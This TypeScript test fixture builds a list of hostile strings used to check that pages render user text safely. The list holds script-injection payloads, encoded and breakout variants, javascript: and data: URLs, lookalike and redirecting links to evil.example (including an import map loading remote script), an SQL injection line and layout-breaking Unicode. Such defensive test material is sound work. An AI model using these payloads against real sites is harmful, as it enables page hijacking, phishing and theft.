import { limits } from '../contract/limits.ts'

const payload = 'top.owned=1'
const script = `<script>${payload}</script>`
const image = `<img src=x onerror=${payload}>`
const url = `javascript:${payload}`

const scripts = [
  script,
  `<ScRiPt\n>${payload}</sCrIpT\t>`,
  `<script/x>${payload}`,
  `<<script>${payload}//<</script>`,
  `<scr<script>ipt>${payload}</scr</script>ipt>`,
  `<script nonce="" type=module src=data:text/javascript,${payload}></script>`,
  `<svg><script href="data:text/javascript,${payload}"/>`,
  ...['img src=x onerror', 'svg onload', 'iframe onload', 'video><source onerror', 'input autofocus onfocus'],
  ...[
    'details open ontoggle',
    'x tabindex=1 autofocus onfocus',
    'svg><animate attributeName=x dur=1s onbegin',
  ],
  ...['div style=animation-name:x onanimationend', 'div popover onbeforetoggle', 'marquee onstart'],
].map((start) => (start.startsWith('<') ? start : `<${start}=${payload}>`))

/** Encodings of a script, which run if anything decodes them once too often. */
const encodings = [
  ...['&lt; &gt;', '&LT &GT', '&#60; &#62;', '&#X00003C; &#X00003E;', '&amp;lt; &amp;gt;'],
  ...['\\u003c \\u003e', '\\x3c \\x3e', '%3C %3E', '%253C %253E', '+ADw- +AD4-', '＜ ＞', '‹ ›'],
].map((pair) => {
  const [less = '', greater = ''] = pair.split(' ')
  return script.replaceAll('<', less).replaceAll('>', greater)
})

/** What ends an enclosing element, comment, attribute or string, before a payload. */
const breakouts = [
  ...['script', 'style', 'title', 'textarea', 'noscript', 'template', 'iframe', 'svg', 'article', 'body']
    .map((element) => `</${element}>`)
    .concat('-->', '--!>', ']]>', '?>', '"}]}</script>', '</SCRIPT\t\n x>', '<!-->', '<![CDATA[')
    .map((end, at) => end + (at % 2 ? script : image)),
  ...['"', "'", '`', '\\"', '&quot;'].flatMap((quote) => [
    `x${quote} autofocus tabindex=1 onfocus=${payload} x=${quote}`,
    `x${quote}>${image}`,
    `x${quote};${payload}//`,
  ]),
  ...[`\${${payload}}`, `{{constructor.constructor('${payload}')()}}`, `<%=${payload}%>`],
  ...[`\\');${payload}//`, `//\u2029${payload}`, `*/${payload}/*`, '__proto__', 'constructor'],
]

/** Foreign content, in which the rules of parsing change, and documents that change the one around them. */
const documents = [
  `<svg><style>${image}</style></svg>`,
  `<svg><title><![CDATA[</title>${image}]]></title>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${payload}'/></svg>#x">`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
  `<noscript><p title="</noscript>${image}">`,
  `<template shadowrootmode=open>${image}</template>`,
  `<iframe srcdoc="&lt;script&gt;${payload}&lt;/script&gt;"></iframe>`,
  `<!DOCTYPE x [<!ENTITY e "${script}">]>&e;`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${payload}</x:script>`,
  '</style><style>*{display:none}',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<div style="position:fixed;inset:0;z-index:9999;background:red">',
  '*{background:url(//evil.example/x.png)}',
  '<a id=trustedTypes><a id=trustedTypes name=createPolicy href=x>',
  '<form id=main><input name=action value=//evil.example></form>',
  '<base href=//evil.example/>',
  '<meta http-equiv=Content-Security-Policy content="script-src *">',
  '<meta http-equiv=refresh content="0;url=//evil.example/">',
  '<script type=importmap>{"imports":{"/assets/main.js":"//evil.example/x.js"}}</script>',
  '<article class=tx id=t-0 data-id=0 data-at=0 data-flags=verified tabindex=-1>Verified</article>',
  '<form method=post action=/me><input name=forget value=1><button>Listen</button></form>',
  `"},"headline":"</script>${script}`,
  ...[`[Listen](${url})`, `[Listen][1]\n\n[1]: ${url}`, `<${url}>`, `\`\`\`html\n${script}\n\`\`\``],
  ...[`**${image}** _${script}_`, `# <h1>${payload}</h1>\n| a | <b>b |\n|---|---|`, '<b>bold</b>'],
  ...[
    '<plaintext>',
    '</p></div></article></div></main></body></html>',
    '<!--',
    '<',
    '<a href="',
    "<img src='",
  ],
  ...['<textarea>', '&', '&#x', '&amp;amp;', '&nbsp;&copy;&#128512;&NotEqualTilde;&zwj;', '%s%n%x %00 %0a'],
  ...["'; DROP TABLE transmissions; --", 'null', '[object Object]'],
]

/** URLs that run script, disguise their target, or break out of the link around them. */
const addresses = [
  ...[url, `JaVa\tScRiPt:${payload}`, `&#106;avascript:${payload}`, `java&NewLine;script&colon;${payload}`],
  ...[`javascript://evil.example/%250a${payload}`, `jav\u200bascript:${payload}`, `vbscript:${payload}`],
  ...[`data:text/html,${script}`, `feed:${url}`, 'file:///etc/passwd'],
].map((address) => `<a href="${address}">Listen</a>`)

const links = [
  ...['iframe src', 'object data', 'form><button formaction', 'svg><a xlink:href'].map(
    (at) => `<${at}="${url}">x`,
  ),
  'http://good.example@evil.example/',
  `http://evil.example/"onmouseover="${payload}`,
  `http://evil.example/'onmouseover='${payload}`,
  `http://evil.example/&quot;onmouseover=&quot;${payload}`,
  `http://evil.example/${url}`,
  `http://evil.example/?a=1&b=2#">${image}`,
  `https://evil.example/%22%3E${encodeURIComponent(script)}`,
  'http://evil.example\\@good.example/',
  'http:\\\\evil.example',
  '//evil.example/x',
  'http://[::1]:80/',
  'http://0x7f.1/',
  'http://evil.example:99999/',
  'http://evil.example/%0d%0aSet-Cookie:%20guest=x',
  'https://аррӏе.com/',
  'https://good.example․evil.example/',
  'https://good.example／evil.example/',
  'https://evil.example/\u202egnp.exe',
  'https://evil.example/(a(b)c)d).',
  'https://evil.example/?#',
  `HTTPS://EVIL.EXAMPLE/${'a/'.repeat(140)}`,
  `http://${'a.'.repeat(120)}example/`,
  `#${image}`,
  '#"onmouseover="top.owned=1',
  '@"onmouseover="top.owned=1',
  '@../../me?forget=1',
]

const each = (count: number, one: (n: number) => string): string =>
  Array.from({ length: count }, (_, n) => one(n)).join(' ')

/** Texts without script that would overflow, cover, rotate or hide their surroundings. Each has the maximum length. */
const shapes = [
  ...[
    '\u202e',
    '\u2066',
    '\u2067',
    '\u200f',
    '\u200b',
    '\u200d',
    '\ufeff',
    '\u00ad',
    '\u034f',
    '\u3164',
    '\ufe0f',
  ]
    .concat('\u{e0041}', '\ufff9', '\uffff', '\ue000', '\u{10ffff}', '\u00a0', '\u3000', '\u2028')
    .map((character) => `good${character}live ${character.repeat(9)}#tag${character}end`),
  `Z${'\u0301'.repeat(300)}`,
  each(20, () => `Z${'\u0310\u0323'.repeat(7)}`),
  ...['W', '﷽', '𒐫', '⸻', '👍', '漢', 'ا', '#', '@', '_', '/', 'ก็็็็็', '👨‍👩‍👧‍👦', '🇩🇪', '👍🏿'].map((text) =>
    text.repeat(320),
  ),
  each(70, (n) => `#a${n}`),
  each(60, (n) => `@b${n}`),
  each(14, (n) => `http://e${n}.example/`),
  `one${'\n'.repeat(300)}two`,
  `one${'\t'.repeat(300)}two`,
  each(100, () => 'a\n'),
  'مرحبا بالعالم! 123 (abc) #وسم @Tideline http://example.com/مسار',
  'שלום עולם, 123 (abc) #תגית @Tideline http://example.com/נתיב',
  '\u2067abc\u2066אבג\u2067def',
  '︻デ═一 ⎛⎝ᴥ⎠⎞ ﴾ ͡๏̯͡๏﴿ ̿̿ ̿̿',
  `\u202e${image}`,
].map((text) => [...text].slice(0, limits.content).join(''))

/**
 * Texts that try to take over a page or break its layout. Those that run script set `top.owned`. Every page must show
 * them as plain text. None begins or ends with white space, so each is stored unchanged.
 */
export const hostileStrings: string[] = [
  ...scripts,
  ...encodings,
  ...breakouts,
  ...addresses,
  ...links,
  ...documents,
  ...shapes,
].map((text) => text.trim())
